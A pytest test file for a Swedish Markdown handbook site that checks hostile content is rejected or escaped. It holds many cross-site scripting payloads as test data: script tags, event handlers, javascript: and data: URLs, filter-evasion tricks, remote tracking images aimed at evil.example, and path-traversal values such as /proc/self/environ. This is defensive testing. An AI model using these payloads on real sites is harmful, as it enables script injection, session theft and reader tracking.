"""Unsafe content never reaches the site: scripts, frames, styles, event handlers, javascript: and data: URLs.

Three lines of defence, each tested on real built HTML:

* the method body is validated: hostile Markdown or HTML is rejected with file and line, and the build fails;
* near misses that are allowed (code, entities, allowed inline tags) render as harmless text;
* front-matter text is escaped by pages.py wherever it appears, also when validation is bypassed.

Every payload carries the marker MARK, so the scanner can tell a payload from the theme's own scripts.
"""

from __future__ import annotations

import datetime
import html
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from helpers import REPO, VALID_BODY, build_site, front_matter, make_method, make_project, method_text, write_config
from metodbank import PageBuilder, link_methods, load_vocabulary
from metodbank.core.loader import load_source
from metodbank.core.model import BodySection, Method
from metodbank.core.validate import validate_source

MARK = "mbxss"
TODAY = datetime.date(2026, 11, 23)
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href",
                  "srcdoc", "ping", "cite"}
NEVER = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
# Elements a payload could create; text in an ordinary attribute (aria-label, title) is harmless.
FROM_PAYLOAD = {"img", "svg", "math", "style", "link", "form", "input", "button", "video", "audio", "source",
                "textarea", "select", "script"}


class Scanner(HTMLParser):
    """Finds what could run code or load foreign content in one HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        shown = f"<{tag} {attrs}>"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append("event handler: " + shown)
            if name == "http-equiv" and (value.lower() != "content-security-policy" or tag != "meta"):
                self.found.append("http-equiv: " + shown)
            if name in URL_ATTRIBUTES:
                cleaned = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
                if re.match(r"(javascript|data|vbscript|file):", cleaned):
                    self.found.append("unsafe URL: " + shown)
        if tag in NEVER:
            self.found.append("element: " + shown)
        elif MARK in str(attrs) and tag in FROM_PAYLOAD:
            self.found.append("payload in element: " + shown)
        if tag == "script":
            self._script = dict(attrs)
        if tag == "title":
            self.set_cdata_mode("title")  # as in a browser: nothing but </title> ends it

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None and MARK in data and self._script.get("type") != "application/json":
            self.found.append("payload in a script: " + data[:120])


def scan_site(site: Path) -> list[str]:
    """Every unsafe thing in every HTML file of a built site, as 'file: what'."""
    found = []
    for path in sorted(site.rglob("*.html")):
        scanner = Scanner()
        scanner.feed(path.read_text(encoding="utf-8"))
        scanner.close()
        found += [f"{path.relative_to(site)}: {item}" for item in scanner.found]
    return found


def run(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"PYTHONPATH": str(REPO / "hooks"), "PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, *args], cwd=project, capture_output=True, text=True, encoding="utf-8",
                          env=env, timeout=180)


# Hostile Markdown and HTML for a method body, and the problem each must give at the line where it starts
# (or that many lines further down, where a reference definition or attribute list stands).
HOSTILE = [
    (f"<script>alert('{MARK}')</script>", "unsafe-html"),
    (f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>", "unsafe-html"),
    (f"<script\n>alert('{MARK}')</script>", "unsafe-html"),
    (f"<scr<script>ipt>alert('{MARK}')</script>", "unsafe-html"),
    (f'<iframe src="https://evil.example/{MARK}"></iframe>', "unsafe-html"),
    (f'<object data="{MARK}.swf"></object>', "unsafe-html"),
    (f'<embed src="{MARK}.swf">', "unsafe-html"),
    ("<style>body { display: none }</style>", "unsafe-html"),
    (f"<svg onload=alert('{MARK}')>", "unsafe-html"),
    (f'<form action="https://evil.example/{MARK}"><input name="x"></form>', "unsafe-html"),
    (f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}">', "unsafe-html"),
    (f'<base href="https://evil.example/{MARK}/">', "unsafe-html"),
    (f'<link rel="stylesheet" href="https://evil.example/{MARK}.css">', "unsafe-html"),
    (f"<img src=x onerror=\"alert('{MARK}')\">", "unsafe-html"),
    (f"<img src=\"x.png\" alt=\"y\"\n  onerror=\"alert('{MARK}')\">", "unsafe-html"),
    (f"Tryck <kbd onclick=\"alert('{MARK}')\">Ctrl</kbd>.", "unsafe-html"),
    (f"Det här är <b\nonmouseover=\"alert('{MARK}')\">fetstilt</b>.", "unsafe-html"),
    (f"<abbr title=\"x\" onfocus=alert('{MARK}')>AF</abbr>", "unsafe-html"),
    (f"<blink onclick=alert('{MARK}')>x</blink>", "unsafe-html"),
    (f'<a href="javascript:alert(\'{MARK}\')">länk</a>', "unsafe-url"),
    (f'<b style="position:fixed">{MARK}</b>', "html-not-allowed"),
    (f'<div class="{MARK}">ruta</div>', "html-not-allowed"),
    (f"<javascript:alert('{MARK}')>", "unsafe-html"),
    (f"<!--><script>alert('{MARK}')</script>-->", "unsafe-html"),
    (f"!!! note \"<img src=x onerror=alert('{MARK}')>\"\n    Text.", "unsafe-html"),
    (f"[Klicka](javascript:alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](JaVaScRiPt:alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](  javascript:alert('{MARK}') )", "unsafe-url"),
    (f"[Klicka](<javascript:alert('{MARK}')>)", "unsafe-url"),
    (f"[Klicka](java\tscript:alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](java\nscript:alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](&#106;avascript:alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](&#x6A;avascript&colon;alert('{MARK}'))", "unsafe-url"),
    (f"[Klicka](\njavascript:alert('{MARK}'))", "unsafe-url"),
    (f"![Bild](data:image/svg+xml;base64,{MARK})", "unsafe-url"),
    (f"![Bild](vbscript:msgbox('{MARK}'))", "unsafe-url"),
    (f"[Klicka][ref]\n\n[ref]: javascript:alert('{MARK}')", "unsafe-url", 2),
    (f"[Klicka][ref]\n\n[ref]:\n    javascript:alert('{MARK}')", "unsafe-url", 2),
    (f"[Klicka](https://example.org){{ onclick=\"alert('{MARK}')\" }}", "unsafe-html"),
    (f"Ett stycke.\n{{: onmouseover=\"alert('{MARK}')\" }}", "unsafe-html", 1),
    (f"[Klicka](https://example.org){{: href=\"javascript:alert('{MARK}')\" }}", "html-not-allowed"),
]


def hostile_text(snippet: str) -> str:
    return method_text(front_matter(), VALID_BODY + "\n## Exempel\n\n" + snippet + "\n")


def line_of(text: str, snippet: str) -> int:
    return text[: text.index(snippet)].count("\n") + 1


@pytest.mark.parametrize(("snippet", "code", "offset"), [(*case, 0)[:3] for case in HOSTILE],
                         ids=[f"{i:02d}" for i in range(len(HOSTILE))])
def test_hostile_body_is_rejected_at_its_line(snippet, code, offset):
    vocabulary, _ = load_vocabulary(REPO)
    text = hostile_text(snippet)
    source, problems = load_source("methods/x.md", "x", text.encode())
    assert problems == [] and source is not None
    _, problems = validate_source(source, vocabulary, TODAY)
    assert (line_of(text, snippet) + offset, code) in [(p.line, p.code) for p in problems], problems
    assert all(p.code in ("unsafe-html", "unsafe-url", "html-not-allowed", "empty-section") for p in problems), problems


def test_build_with_hostile_bodies_fails_with_every_line_and_writes_no_page(tmp_path):
    project = make_project(tmp_path / "project")
    make_method(project, "ofarlig")
    expected = []
    for number, (snippet, _, offset) in enumerate((*case, 0)[:3] for case in HOSTILE):
        path = project / "methods" / f"farlig-{number:02d}.md"
        text = hostile_text(snippet)
        path.write_text(text, encoding="utf-8")
        expected.append(f"methods/{path.name}:{line_of(text, snippet) + offset}: ")
    write_config(project)
    result = run(project, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site"))
    assert result.returncode != 0
    assert "Traceback" not in result.stdout + result.stderr
    for where in expected:
        assert where in result.stderr, where
    site = project / "site"
    assert not site.exists() or MARK not in "".join(p.read_text(errors="replace") for p in site.rglob("*.html"))


NEAR_MISSES = f"""
Kod visas som kod: `<script>alert('{MARK}')</script>` och `[x](javascript:alert('{MARK}'))`.

```html
<iframe src="https://evil.example/{MARK}"></iframe>
<img src=x onerror="alert('{MARK}')">
```

~~~
[Klicka](javascript:alert('{MARK}'))
~~~

Tecken som text: &lt;script&gt;alert('{MARK}')&lt;/script&gt; och 3 < 5 och a<b.

<!-- en kommentar: {MARK} -->

Tryck <kbd>Ctrl</kbd>, läs <abbr title="Arbetsförmedlingen">AF</abbr> och <mark>markera</mark>.

Ordet javascript: i löptext, [en riktig länk](https://example.org/{MARK}) och [e-post](mailto:info@example.org).
"""


def test_allowed_near_misses_build_and_render_harmlessly(tmp_path):
    project = make_project(tmp_path / "project")
    make_method(project, "nara-ogat", body=VALID_BODY + "\n## Exempel\n" + NEAR_MISSES)
    site = build_site(project)
    assert scan_site(site) == []
    page = (site / "metoder" / "nara-ogat" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in page  # shown, not run
    assert "<kbd>Ctrl</kbd>" in page and '<abbr title="Arbetsförmedlingen">AF</abbr>' in page
    assert MARK not in page.split("<!--", 1)[0] or "en kommentar" not in page


# Front-matter values that pass validation but look like Markdown, HTML entities or attribute break-outs.
FIELD_PAYLOADS = {
    "title": f"[x](javascript:alert('{MARK}')) *fet* &lt;b&gt;",
    "summary": f'0;url=https://evil.example/{MARK} " http-equiv="refresh" onmouseover="alert(1) '
               f"![bild](data:image/png;base64,{MARK}) {{: onclick=\"alert(2)\" }} och mer text.",
    "preparation": f"[Förbered](javascript:alert('{MARK}')) &#106;avascript:alert(3)",
    "materials": [f"![a](javascript:alert('{MARK}'))", f"{MARK}@example.org"],
    "authors": [f"[Anna](javascript:alert('{MARK}'))"],
    "duration": {"min": 30, "max": 60, "span": f'" onclick="alert(\'{MARK}\')'},
    "steps": {"anchoring": [f"[Steg](javascript:alert('{MARK}'))"], "delivery": [f"**{MARK}** {{ onclick=x }}"],
              "follow_up": ["`kod` och _kursiv_"]},
    "adaptations": {"reading": f"[Läs](data:text/html,{MARK})"},
    "sources": [{"text": f"[Bok](javascript:alert('{MARK}'))", "url": f"https://example.org/?q=\"{MARK}\""}],
}


def test_front_matter_payloads_are_escaped_in_the_built_site(tmp_path):
    project = make_project(tmp_path / "project")
    make_method(project, "falt", **FIELD_PAYLOADS)
    make_method(project, "granne", related=["falt"], after=["falt"])
    site = build_site(project)
    assert scan_site(site) == []
    page = (site / "metoder" / "falt" / "index.html").read_text(encoding="utf-8")
    assert "[x](javascript:alert(" in page  # the title is shown as written, not turned into a link
    assert "![bild](data:image/png;base64," in page
    description = re.search(r'<meta name="description" content="([^"]*)"', page)
    assert description and "http-equiv" in description.group(1)  # inside the attribute, not a new one


def test_page_builder_escapes_html_even_without_validation(tmp_path):
    """pages.py escapes every front-matter string itself: feed it HTML that validation would have refused."""
    evil = f"<img src=x onerror=alert('{MARK}')><script>alert('{MARK}')</script>\" onmouseover=\"alert(1)"
    vocabulary, _ = load_vocabulary(REPO)
    sections = tuple(BodySection(title, 1, "Text.") for title in
                     ("Syfte", "Förankring", "Genomförande", "Efterarbete och implementering"))
    methods = [
        Method(id=method_id, path=f"methods/{method_id}.md", title=f"{method_id} {evil}", summary=f"Om {evil}",
               easy_read=evil, phases=("delivery",), audience=("participant",), group_size={"min": 1, "max": 2},
               duration={"min": 10, "max": 20, "span": evil}, preparation=evil, difficulty="easy",
               roles=("facilitator",), materials=(evil,), cost="none", tags=("reflektion",), related=related,
               steps={"anchoring": (evil,), "delivery": (evil,), "follow_up": (evil,)},
               adaptations={"reading": evil}, sources=({"text": evil, "url": None},), authors=(evil,),
               last_reviewed=TODAY, status="published", sections=sections)
        for method_id, related in (("ett", ("tva",)), ("tva", ()))
    ]
    catalogue, problems = link_methods(methods)
    assert problems == []
    project = make_project(tmp_path / "project")
    for page in PageBuilder(catalogue, vocabulary).build_pages():
        path = project / "handbook" / page.src_uri
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(page.markdown, encoding="utf-8")
    config = write_config(project, hooks=[], nav=None, validation={"links": {"not_found": "info",
                                                                            "unrecognized_links": "info"}})
    assert config.exists()
    site = build_site(project, strict=False)
    found = scan_site(site)
    assert found == []
    page = (site / "metoder" / "ett" / "index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(" in page


def test_a_title_cannot_close_the_title_element():
    """The theme prints page titles through `striptags`, which decodes entities; so `<` stays out of titles."""
    vocabulary, _ = load_vocabulary(REPO)
    text = method_text(front_matter(title=f"</title><script>alert('{MARK}')</script>"))
    source, _ = load_source("methods/x.md", "x", text.encode())
    _, problems = validate_source(source, vocabulary, TODAY)
    assert [(p.line, p.code) for p in problems] == [(2, "html-in-field")]


# -- What got through the source regexes (issue 13): each must fail `check`, and even a build that skips the
# check (pages made straight from the PageBuilder) must publish none of it as active markup. -------------------

SAFETY_CODES = {"unsafe-html", "unsafe-url", "html-not-allowed", "image-not-allowed", "too-complex",
                "image-without-alt"}
HOSTILE_RENDERED = {
    # A quoted < or > inside an attribute hid the whole tag from the old check.
    "quoted-gt-abbr": f"<abbr title=\">\" autofocus onfocus=\"alert('{MARK}')\">AF</abbr>",
    "quoted-lt-img": f"<img alt=\"<\" src=x onerror=\"alert('{MARK}')\">",
    "quoted-lt-details": f"<details open ontoggle=\"alert('{MARK}')\" title=\"<\">x</details>",
    "quoted-gt-style": f"<b title=\">\" style=\"position:fixed;inset:0;background:red\">{MARK}</b>",
    "quoted-lt-kbd-single": f"<kbd title='<' onclick='alert(\"{MARK}\")'>x</kbd>",
    "quoted-gt-a": f"<a title=\">\" href=\"javascript:alert('{MARK}')\">x</a>",
    "quoted-both": f"<mark title=\"<>\" onmouseover=\"alert('{MARK}')\">x</mark>",
    # Code the old check blanked but Markdown renders.
    "escaped-backticks": f"\\`<script>alert('{MARK}')</script>\\`",
    "unequal-backticks": f"``x` <img src=x onerror=\"alert('{MARK}')\">",
    "backtick-run-open": f"``` kod <iframe src=\"https://evil.example/{MARK}\"></iframe>",
    "fence-with-tab": f"```\tx```\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{MARK}\">\n```",
    "fence-odd-info": f"``` a`b\n<form action=\"https://evil.example/{MARK}\"><button>Skicka</button></form>",
    "fence-never-closed": f"~~~\nkod\n\n<script>alert('{MARK}')</script>",
    "indented-fence": f"    ```\n<img src=x onerror=\"alert('{MARK}')\">",
    "tilde-inside-backtick": f"```\n~~~\n```\n<iframe src=\"https://evil.example/{MARK}\"></iframe>\n~~~",
    # Reference definitions the old check did not see.
    "reference-in-quote": f"> [Klicka][x]\n>\n> [x]: javascript:alert('{MARK}')",
    "reference-in-list": f"- [Klicka][x]\n- [x]: javascript:alert('{MARK}')",
    "reference-in-nested-list": f"1. Steg\n\n    [x]: javascript:alert('{MARK}')\n\n    [Klicka][x]",
    "reference-data-url": f"[Klicka][y]\n\n[y]: data:text/html;base64,{MARK}",
    "reference-empty-label": f"[Klicka][ ]\n\n[ ]: javascript:alert('{MARK}')",
    "reference-angle": f"[Klicka][z]\n\n[z]: <javascript:alert('{MARK}')>",
    "reference-quote-list": f"> - [Klicka][q]\n>\n>   [q]: vbscript:msgbox('{MARK}')",
    # attr_list tricks: a } inside a quoted value, and attributes the old deny-list let through.
    "attr-brace-in-value": f"[Klicka](https://example.org){{ title=\"}}\" onclick=\"alert('{MARK}')\" }}",
    "attr-image-onerror": f"![Bild](bild.png){{ title=\"}}\" onerror=\"alert('{MARK}')\" }}",
    "attr-autofocus": f"Text\n{{: autofocus tabindex=1 id={MARK} }}",
    "attr-class-button": f"[Läs](https://example.org){{ .md-button #{MARK} }}",
    "attr-ping-target": f"[Läs](https://example.org){{ ping=\"https://evil.example/{MARK}\" target=_blank }}",
    "attr-data-hidden": f"Text\n{{: data-x=\"{MARK}\" hidden }}",
    # Raw HTML attributes outside the allow-list.
    "raw-class": f"<span class=\"md-button {MARK}\">x</span>",
    "raw-id": f"<b id=\"{MARK}\">x</b>",
    "raw-data-attr": f"<kbd data-{MARK}=\"1\">x</kbd>",
    "raw-a-target": f"<a href=\"https://example.org\" target=\"_blank\" ping=\"https://evil.example/{MARK}\">x</a>",
    "raw-srcset": f"<img alt=\"x\" src=\"bild.png\" srcset=\"https://evil.example/{MARK}.png 2x\">",
    "raw-video": f"<video src=\"https://evil.example/{MARK}.mp4\" autoplay></video>",
    "raw-details-toggle": f"<details ontoggle=\"alert('{MARK}')\" open><summary>x</summary></details>",
    "entity-split-handler": f"<img src=x o&#110;error=\"alert('{MARK}')\">",
    "newline-in-tag": f"<img\nsrc=x\nonerror=\"alert('{MARK}')\"\n>",
    "slash-separated": f"<img/src=x/onerror=\"alert('{MARK}')\">",
    "uppercase-event": f"<IMG SRC=x ONERROR=\"alert('{MARK}')\">",
    "nested-comment-trick": f"<!-- x --!><img src=x onerror=\"alert('{MARK}')\">",
    "cdata-trick": f"<![CDATA[<img src=x onerror=\"alert('{MARK}')\">]]>",
    "html-in-table-cell": f"| a |\n|---|\n| <img src=x onerror=\"alert('{MARK}')\"> |",
    "autolink-javascript": f"<javascript:alert('{MARK}')>",
    # Remote images: a tracking pixel on every reader.
    "remote-image": f"![Pixel](https://evil.example/{MARK}.png)",
    "remote-image-protocol-relative": f"![Pixel](//evil.example/{MARK}.png)",
    "remote-image-raw": f"<img alt=\"Pixel\" src=\"https://evil.example/{MARK}.png\">",
    "remote-image-reference": f"![Pixel][p]\n\n[p]: https://evil.example/{MARK}.png",
    "image-absolute-path": f"![Pixel](/{MARK}.png)",
    "image-outside-site": f"![Pixel](../../../{MARK}.png)",
}


def _bypass_site(tmp_path: Path, bodies: dict[str, str]) -> Path:
    """Build a site straight from the PageBuilder, skipping the check: what would a reader get?"""
    vocabulary, _ = load_vocabulary(REPO)
    methods = []
    for method_id, snippet in bodies.items():
        text = hostile_text(snippet)
        source, _ = load_source(f"methods/{method_id}.md", method_id, text.encode())
        method, _ = validate_source(source, vocabulary, TODAY)
        methods.append(method)
    catalogue, _ = link_methods(methods)
    project = make_project(tmp_path / "project")
    from metodbank import splice_parts

    for page in PageBuilder(catalogue, vocabulary).build_pages():
        path = project / "handbook" / page.src_uri
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(splice_parts(page.markdown, page.parts or {}), encoding="utf-8")
    write_config(project, hooks=[], nav=None, validation={"links": {"not_found": "info", "unrecognized_links": "info"}})
    return build_site(project, strict=False)


@pytest.mark.parametrize("name", list(HOSTILE_RENDERED))
def test_rendered_hostile_body_fails_check(name):
    vocabulary, _ = load_vocabulary(REPO)
    text = hostile_text(HOSTILE_RENDERED[name])
    source, problems = load_source("methods/x.md", "x", text.encode())
    assert problems == [] and source is not None
    _, problems = validate_source(source, vocabulary, TODAY)
    assert problems, "check accepted a hostile body"
    assert {p.code for p in problems} <= SAFETY_CODES | {"empty-section"}, problems
    first = line_of(text, HOSTILE_RENDERED[name])
    assert all(first - 1 <= p.line <= first + HOSTILE_RENDERED[name].count("\n") for p in problems
               if p.code != "empty-section"), problems


def test_rendered_hostile_bodies_publish_nothing_active_even_without_the_check(tmp_path):
    ids = {f"fall-{i:02d}": snippet for i, snippet in enumerate(HOSTILE_RENDERED.values())}
    site = _bypass_site(tmp_path, ids)
    assert scan_site(site) == []
    found = []
    for method_id in ids:
        page = (site / "metoder" / method_id / "index.html").read_text(encoding="utf-8")
        article = page.split("<article", 1)[1].split("</article>", 1)[0].split("<h1", 1)[1]  # after the edit icon
        scanner = ActiveScanner()
        scanner.feed(article)
        found += [f"{method_id}: {item}" for item in scanner.found]
        assert "evil.example" not in re.sub(r"&lt;.*?&gt;|>[^<]*<", "><", article), method_id
    assert found == []


class ActiveScanner(HTMLParser):
    """Independent of the sanitizer: anything in a fragment that could run code, load or restyle."""

    ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "base", "frame", "frameset", "applet",
              "svg", "math", "link", "meta", "video", "audio", "input", "button", "textarea", "select"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_starttag(self, tag, attrs):
        shown = f"<{tag} {attrs}>"
        if tag in self.ACTIVE:
            self.found.append("element: " + shown)
        for name, value in attrs:
            value = value or ""
            cleaned = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
            if name.startswith("on"):
                self.found.append("event handler: " + shown)
            elif name in ("href", "src", "srcset", "action", "formaction", "ping", "poster", "cite", "data"):
                if re.match(r"(javascript|data|vbscript|file):", cleaned):
                    self.found.append("unsafe URL: " + shown)
                if tag == "img" and name == "src" and re.match(r"([a-z]+:)?//", cleaned):
                    self.found.append("remote image: " + shown)
                if name in ("srcset", "ping", "action", "formaction"):
                    self.found.append("attribute: " + shown)
            elif name == "style" and not re.fullmatch(r"(text-align:\s*\w+;?\s*)*", value.strip()):
                self.found.append("style: " + shown)
            elif name in ("autofocus", "tabindex", "target") or name.startswith("data-"):
                self.found.append("attribute: " + shown)
            elif name == "class" and MARK in value:
                self.found.append("class: " + shown)
            elif name == "id" and MARK in value:
                self.found.append("id: " + shown)


# -- Vocabulary, chapter paths, symlinks and images in chapters (issue 13) ------------------------------------

def _vocabulary_with(project: Path, old: str, new: str) -> None:
    path = project / "vocabulary.yml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


VOCABULARY_ATTACKS = {
    "label-script": ("label: Förankring", f"label: \"Förankring<script>alert('{MARK}')</script>\"",
                     "markup-in-vocabulary"),
    "label-quote-attribute": ("label: Förankring", f"label: 'Förankring\" onmouseover=\"alert(1)\" x=\"{MARK}'",
                              None),
    "label-entity": ("label: Förankring", f"label: \"F&#246;rankring {MARK}\"", "markup-in-vocabulary"),
    "label-markdown-link": ("label: Förankring", f"label: \"[Förankring](javascript:alert('{MARK}'))\"",
                            "markup-in-vocabulary"),
    "chapter-absolute": ("chapter: forankring.md", "chapter: /proc/self/environ", "bad-chapter-path"),
    "chapter-dotdot": ("chapter: forankring.md", "chapter: ../vocabulary.yml.md", "bad-chapter-path"),
    "chapter-dotdot-inside": ("chapter: forankring.md", "chapter: bidra/../../x.md", "bad-chapter-path"),
}


@pytest.mark.parametrize("name", list(VOCABULARY_ATTACKS))
def test_vocabulary_attacks_fail_check_with_swedish_message(tmp_path, name):
    old, new, code = VOCABULARY_ATTACKS[name]
    project = make_project(tmp_path / "project")
    make_method(project, "ofarlig")
    _vocabulary_with(project, old, new)
    result = run(project, "-m", "metodbank", "check")
    assert "Traceback" not in result.stdout + result.stderr
    if code is None:  # a double quote is plain text: accepted, and escaped wherever it is shown
        assert result.returncode == 0, result.stdout
        site = build_site(project)
        assert scan_site(site) == []
        for page in site.rglob("*.html"):  # scan_site found no onmouseover attribute; the quote stays text
            text = page.read_text(encoding="utf-8")
            for match in re.finditer(r"<meta [^>]*>", text):
                assert MARK not in match.group(0) or "&#34;" in match.group(0) or "&quot;" in match.group(0)
        return
    assert result.returncode == 1, result.stdout
    lines = [line for line in result.stdout.splitlines() if line.startswith("vocabulary.yml:")]
    assert any(line.endswith(f"[{code}]") for line in lines), result.stdout
    assert re.search(r"[åäö]", result.stdout)


def test_a_label_with_markup_never_reaches_a_page(tmp_path):
    """Even if the check were skipped, labels are escaped: build pages straight from a hostile vocabulary."""
    from metodbank.core.vocabulary import Term, Vocabulary

    evil = f"Fas<img src=x onerror=alert('{MARK}')>\" onmouseover=\"alert(1)"
    vocabulary, _ = load_vocabulary(REPO)
    lists = dict(vocabulary.lists)
    lists["phases"] = tuple(Term(t.id, evil, evil, t.aliases, t.chapter) for t in lists["phases"])
    lists["tags"] = tuple(Term(t.id, evil, evil, (evil,), t.chapter) for t in lists["tags"])
    hostile = Vocabulary.from_lists(lists, vocabulary.synonyms)
    text = hostile_text("Text.")
    source, _ = load_source("methods/ett.md", "ett", text.encode())
    method, _ = validate_source(source, vocabulary, TODAY)
    catalogue, _ = link_methods([method])
    from metodbank import build_print_pages, splice_parts

    project = make_project(tmp_path / "project")
    builder = PageBuilder(catalogue, hostile)
    for page in builder.build_pages() + build_print_pages(builder, project / "handbook"):
        path = project / "handbook" / page.src_uri
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(splice_parts(page.markdown, page.parts or {}), encoding="utf-8")
    chapter = project / "handbook" / "forankring.md"
    chapter.write_text(chapter.read_text(encoding="utf-8") + "\n\n" + builder.build_phase_list("anchoring"),
                       encoding="utf-8")
    write_config(project, hooks=[], nav=None, validation={"links": {"not_found": "info", "unrecognized_links": "info"}})
    site = build_site(project, strict=False)
    assert scan_site(site) == []  # no event handler, no element from the label


def test_symlink_out_of_docs_dir_fails_check_and_build_and_publishes_nothing(tmp_path):
    secret = tmp_path / "hemlig.md"
    secret.write_text(f"# Hemligt\n\nTOKEN={MARK}\n", encoding="utf-8")
    project = make_project(tmp_path / "project")
    make_method(project, "ofarlig")
    (project / "handbook" / "lank.md").symlink_to(secret)
    (project / "handbook" / "forankring.md").unlink()
    (project / "handbook" / "forankring.md").symlink_to(secret)
    result = run(project, "-m", "metodbank", "check")
    assert result.returncode == 1
    assert "handbook/lank.md: " in result.stdout and "[symlink-outside]" in result.stdout
    assert "handbook/forankring.md: " in result.stdout
    write_config(project)
    result = run(project, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site"))
    assert result.returncode != 0 and "Traceback" not in result.stderr
    site = project / "site"
    assert not site.exists() or MARK not in "".join(p.read_text(errors="replace") for p in site.rglob("*.*"))


def test_chapter_path_outside_is_never_read(tmp_path):
    """A chapter: path outside docs_dir is refused, and the print pages never read it even without the check."""
    from metodbank import build_print_pages
    from metodbank.core.vocabulary import Term, Vocabulary

    secret = tmp_path / "hemlig.md"
    secret.write_text(f"# Hemligt\n\nTOKEN={MARK}\n", encoding="utf-8")
    project = make_project(tmp_path / "project")
    vocabulary, _ = load_vocabulary(REPO)
    lists = dict(vocabulary.lists)
    lists["phases"] = tuple(Term(t.id, t.label, t.description, t.aliases, f"../../{secret.name}")
                            for t in lists["phases"])
    hostile = Vocabulary.from_lists(lists)
    catalogue, _ = link_methods([])
    pages = build_print_pages(PageBuilder(catalogue, hostile), project / "handbook" / "sub" / "..")
    assert all(MARK not in page.markdown for page in pages)


def test_remote_image_in_a_chapter_fails_check_and_build_and_is_removed(tmp_path):
    project = make_project(tmp_path / "project")
    make_method(project, "ofarlig")
    chapter = project / "handbook" / "genomforande.md"
    text = (chapter.read_text(encoding="utf-8") + f"\n![Pixel](https://evil.example/{MARK}.png)\n"
            f"\n<img src=\"bilder/ok.png\" alt=\"ok\" onerror=\"alert('{MARK}')\">\n")
    chapter.write_text(text, encoding="utf-8")
    write_config(project)
    result = run(project, "-m", "metodbank", "check")
    assert result.returncode == 1
    assert "handbook/genomforande.md:5: " in result.stdout and "[image-not-allowed]" in result.stdout
    assert "handbook/genomforande.md:7: " in result.stdout and "[unsafe-html]" in result.stdout
    result = run(project, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "site"))
    assert result.returncode != 0
    assert "handbook/genomforande.md:5: " in result.stderr and "[image-not-allowed]" in result.stderr
    # And the hook's own cleaning of rendered chapters (behind the check) removes both.
    from metodbank import clean_page
    from metodbank.core.sanitize import site_markdown

    page, messages = clean_page(site_markdown().convert(text), "genomforande")
    assert len(messages) == 2
    assert f"evil.example/{MARK}" not in page and "onerror" not in page and 'src="bilder/ok.png"' in page


# -- CONTRIBUTING.md says exactly what the code allows ---------------------------------------------------------

def test_contributing_allow_list_is_generated_from_the_policy():
    from metodbank.core.sanitize import allow_list_markdown
    from metodbank.core.vocabulary import MARKUP_CHARS

    text = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    assert allow_list_markdown() in text, "run: python -c 'from metodbank.core.sanitize import allow_list_markdown' …"
    section = text.split("## Vad som är tillåtet i texten", 1)[1].split("\n## ", 1)[0]
    for char in MARKUP_CHARS:
        assert f"`{char}`" in section or f"`` {char} ``" in section, char


@pytest.mark.parametrize("tag", sorted(__import__("metodbank.core.sanitize", fromlist=["x"]).INLINE_TAGS))
def test_every_inline_tag_in_the_list_is_accepted(tag):
    vocabulary, _ = load_vocabulary(REPO)
    snippet = {"abbr": '<abbr title="x">AF</abbr>', "br": "Rad ett<br>rad två."}.get(tag, f"Text med <{tag}>ord</{tag}>.")
    source, _ = load_source("methods/x.md", "x", hostile_text(snippet).encode())
    _, problems = validate_source(source, vocabulary, TODAY)
    assert problems == []


def test_an_image_from_the_repository_is_published_and_found(tmp_path):
    project = make_project(tmp_path / "project")
    (project / "handbook" / "bilder").mkdir()
    (project / "handbook" / "bilder" / "kollega.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    make_method(project, "med-bild", body=VALID_BODY + "\n## Exempel\n\n![En kollega visar](../bilder/kollega.png)\n")
    site = build_site(project)
    page = (site / "metoder" / "med-bild" / "index.html").read_text(encoding="utf-8")
    src = re.search(r'<img alt="En kollega visar" src="([^"]+)"', page).group(1)
    assert (site / "metoder" / "med-bild" / src).resolve() == (site / "bilder" / "kollega.png").resolve()
    printed = (site / "utskrift" / "genomforande" / "index.html").read_text(encoding="utf-8")
    src = re.search(r'<img alt="En kollega visar" src="([^"]+)"', printed).group(1)
    assert (site / "utskrift" / "genomforande" / src).resolve() == (site / "bilder" / "kollega.png").resolve()


def test_the_policy_hashes_only_the_themes_inline_scripts_never_one_in_the_content():
    """Defence in depth: were a script ever to slip into the page content, the policy would not allow it."""
    from metodbank.site.csp import PLACEHOLDER, _hash, fill_policy

    theme, injected = "__md_scope=new URL('.',location)", "alert(document.cookie)"
    page = (f'<html><head><meta http-equiv="Content-Security-Policy" content="{PLACEHOLDER}">'
